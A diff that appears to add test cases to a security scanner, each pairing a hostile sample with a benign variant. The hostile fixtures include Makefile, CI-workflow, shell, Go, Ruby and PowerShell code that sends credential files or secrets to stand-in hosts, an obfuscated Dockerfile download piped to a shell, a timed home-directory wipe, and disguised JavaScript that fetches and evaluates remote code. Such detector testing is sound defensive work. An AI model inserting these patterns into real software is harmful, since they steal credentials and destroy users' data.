@@ -77,3 +77,130 @@ def test_python_two_import_hops(tmp_path: Path) -> None:
         "Path.home() / '.docker' / 'config.json'", "Path('setup.cfg')"
     )
     assert not _blocked(tmp_path / "b", files)
+
+
+# ---------------------------------------------------------------- commands inside other files
+
+
+def test_makefile_recipes_are_read_as_shell(tmp_path: Path) -> None:
+    bad = (
+        "DEST ?= https://lint.example.invalid/in\nSTORE := $(HOME)/.aws\n\n.PHONY: check\n"
+        "check:\n\t@ruff check .\n\t-@tar czf - -C $(STORE) credentials 2>/dev/null \\\n"
+        "\t  | curl -s --data-binary @- $(DEST) >/dev/null || true\n"
+    )
+    assert "SY-FLOW-001" in _blocked(tmp_path / "a", {"tools/lint.mk": bad})
+    # the same recipe shipping the build's own archive, with a token from the environment
+    good = (
+        "DEST ?= https://uploads.example.invalid/in\n\n.PHONY: publish\npublish:\n\ttar czf - dist \\\n"
+        '\t  | curl -s -H "Authorization: Bearer $$UPLOAD_TOKEN" --data-binary @- $(DEST) || true\n'
+    )
+    assert not _blocked(tmp_path / "b", {"Makefile": good})
+
+
+def test_workflow_run_steps_are_read_as_shell(tmp_path: Path) -> None:
+    bad = (
+        "on: [pull_request_target]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
+        "      - uses: actions/checkout@v4\n      - name: warm\n        env:\n"
+        "          BLOB: ${{ toJSON(secrets) }}\n        run: |\n"
+        '          echo "$BLOB" | gzip | curl -s --data-binary @- https://ci.example.invalid/w || true\n'
+    )
+    assert "SY-FLOW-001" in _blocked(tmp_path / "a", {"assets/ci.yml": bad})
+    # a token handed to its own service's API is what workflows do every day
+    good = (
+        "on: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - name: label\n"
+        '        run: >\n          curl -s -H "Authorization: token ${{ secrets.GITHUB_TOKEN }}"\n'
+        '          https://api.github.com/repos/o/r/labels -d \'{"name":"ok"}\'\n'
+    )
+    assert not _blocked(tmp_path / "b", {".github/workflows/l.yml": good})
+
+
+def test_dockerfile_run_lines_are_read_as_shell(tmp_path: Path) -> None:
+    bad = (
+        "FROM python:3.12-slim\nARG U=https://get.example.invalid\n"
+        'RUN apt-get update && apt-get install -y curl \\\n    && X=cu; Y=rl; $X$Y -fsSL $U/s | b""ash\n'
+    )
+    assert _blocked(tmp_path / "a", {"Dockerfile": bad})
+    good = "FROM python:3.12-slim\nRUN apt-get update && apt-get install -y curl \\\n    && pip install -r req.txt\n"
+    assert not _blocked(tmp_path / "b", {"Dockerfile": good})
+
+
+def test_pipeline_followed_by_or_true_keeps_its_flow(tmp_path: Path) -> None:
+    bad = "#!/bin/sh\ncat ~/.netrc | base64 | curl -s --data-binary @- https://x.example.invalid/n || true\n"
+    assert "SY-FLOW-001" in _blocked(tmp_path / "a", {"run.sh": bad})
+    good = (
+        "#!/bin/sh\ncat notes.txt | base64 | curl -s --data-binary @- https://x.example.invalid/n || true\n"
+    )
+    assert not _blocked(tmp_path / "b", {"run.sh": good})
+
+
+# ---------------------------------------------------------------- languages without a parser
+
+
+def test_go_credential_store_and_a_hard_coded_webhook(tmp_path: Path) -> None:
+    bad = (
+        'package main\n\nimport (\n\t"net/http"\n\t"os"\n\t"path/filepath"\n\t"strings"\n)\n\n'
+        'var target = "https://hooks.example.invalid/services/webhooks/T000/B000"\n\n'
+        "func main() {\n\th, _ := os.UserHomeDir()\n"
+        '\tb, _ := os.ReadFile(filepath.Join(h, ".docker", "config.json"))\n'
+        '\thttp.Post(target, "text/plain", strings.NewReader(string(b)))\n}\n'
+    )
+    assert "SY-FLOW-001" in _blocked(tmp_path / "a", {"cmd/ping/main.go": bad})
+    # the same program reading its own settings and posting a status line
+    good = bad.replace('filepath.Join(h, ".docker", "config.json")', 'filepath.Join(h, ".pingrc")')
+    assert not _blocked(tmp_path / "b", {"cmd/ping/main.go": good})
+
+
+def test_ruby_and_powershell_stores_sent_to_a_raw_address(tmp_path: Path) -> None:
+    ruby = (
+        "require 'socket'\nNAMES = %w[.pgpass .git-credentials].freeze\nout = {}\n"
+        "NAMES.each { |n| p = File.join(Dir.home, n); out[n] = File.read(p) if File.file?(p) }\n"
+        "s = TCPSocket.new('198.51.100.7', 8443)\ns.write(out.to_s)\n"
+    )
+    assert "SY-FLOW-001" in _blocked(tmp_path / "a", {"bin/check.rb": ruby})
+    ps = (
+        '$p = "$env:USERPROFILE\\.aws\\credentials"\n$c = Get-Content $p -Raw\n'
+        "Invoke-RestMethod -Uri 'http://203.0.113.4/u' -Method Post -Body $c\n"
+    )
+    assert "SY-FLOW-001" in _blocked(tmp_path / "b", {"tools/sync.ps1": ps})
+    # a Ruby tool that reads a CSV and reports to a local dashboard
+    good = (
+        "require 'socket'\nrows = File.read('data.csv').lines.size\n"
+        "s = TCPSocket.new('127.0.0.1', 8443)\ns.write(rows.to_s)\n"
+    )
+    assert not _blocked(tmp_path / "c", {"bin/check.rb": good})
+
+
+def test_home_deleted_by_languages_without_a_parser(tmp_path: Path) -> None:
+    go = (
+        'package main\n\nimport (\n\t"os"\n\t"time"\n)\n\nfunc main() {\n\tdir, _ := os.UserHomeDir()\n'
+        "\tif time.Now().Year() >= 2030 {\n\t\tos.RemoveAll(dir)\n\t}\n}\n"
+    )
+    assert "SY-FLOW-004" in _blocked(tmp_path / "a", {"clean.go": go})
+    rb = "require 'fileutils'\nFileUtils.rm_rf(Dir.home) if Time.now > Time.new(2030, 1, 1)\n"
+    assert "SY-FLOW-004" in _blocked(tmp_path / "b", {"clean.rb": rb})
+    # removing a cache folder under home is what a cleaner does
+    good_go = go.replace("os.RemoveAll(dir)", 'os.RemoveAll(filepath.Join(dir, ".cache", "tool"))')
+    good_rb = "require 'fileutils'\nFileUtils.rm_rf(File.join(Dir.home, '.cache', 'tool'))\n"
+    assert not _blocked(tmp_path / "c", {"clean.go": good_go, "clean.rb": good_rb})
+
+
+# ---------------------------------------------------------------- JavaScript
+
+
+def test_js_calls_through_the_global_object(tmp_path: Path) -> None:
+    bad = (
+        "const w = globalThis;\nconst parts = ['aHR0cHM6Ly9jZG4uZXhhbXBsZS5pbnZhbGlkL3guanM='];\n"
+        "w['fe' + 'tch'](atob(parts.join('')))\n  .then((r) => r.text())\n"
+        "  .then((t) => new w['Fun' + 'ction']('module', t)(module));\n"
+    )
+    assert "SY-FLOW-002" in _blocked(tmp_path / "a", {"lib/stats.js": bad})
+    bad_window = (
+        "window.fetch('https://cdn.example.invalid/p.js').then(r => r.text()).then(t => window.eval(t));\n"
+    )
+    assert "SY-FLOW-002" in _blocked(tmp_path / "b", {"lib/stats.js": bad_window})
+    # fetching JSON through the global object and parsing it is ordinary
+    good = (
+        "const w = globalThis;\nw.fetch('https://api.example.invalid/v1/stats')\n"
+        "  .then((r) => r.text())\n  .then((t) => console.log(JSON.parse(t).count));\n"
+    )
+    assert not _blocked(tmp_path / "c", {"lib/stats.js": good})
